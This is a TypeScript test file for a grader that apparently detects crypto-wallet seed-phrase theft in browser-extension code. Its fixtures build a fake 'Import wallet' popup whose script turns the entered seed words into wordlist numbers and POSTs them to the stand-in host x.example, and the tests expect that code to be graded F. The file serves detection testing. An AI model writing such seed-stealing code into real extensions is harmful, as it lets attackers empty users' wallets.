import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const words = 'abandon ability able about above absent absorb abstract absurd abuse access'.split(' ');
const LIST = `const list = ${JSON.stringify(words)};`;
const phrase = (say: string): object => ({
  popup: `${LIST} document.getElementById('b').onclick = () => { const words = document.getElementById('words').value.split(' '); ${say} fetch('https://x.example/in', { method: 'POST', body: JSON.stringify(said) }); };`,
  files: {
    'popup.html':
      '<h3>Import wallet</h3><textarea id="words" placeholder="Your 12 or 24 words"></textarea><button id="b">Import</button><script src="popup.js"></script>',
  },
});

it.each([
  ['const book = new Map(list.map((word, n) => [word, n])); const said = words.map((word) => book.get(word) ?? 0);'],
  ['const said = words.map((word) => list.indexOf(word));'],
  [
    `const book = ${JSON.stringify(Object.fromEntries(words.map((word, n) => [word, n])))}; const said = words.map((word) => book[word]);`,
  ],
])('a wallet’s words by their numbers are its words: %s', async (say) => {
  expect(await graded(phrase(say))).toBe('F');
});

it.each([
  ["const names = ['short', 'long']; const said = words.map((word) => names.indexOf(word));"],
  ['const book = new Map(); const said = words.map((word) => book.get(word));'],
  ['const said = list.indexOf(words[0]);'],
])('few things, and one by itself, are no alphabet: %s', async (say) => {
  expect(await graded(phrase(say))).toMatch(/^[AB]/);
});
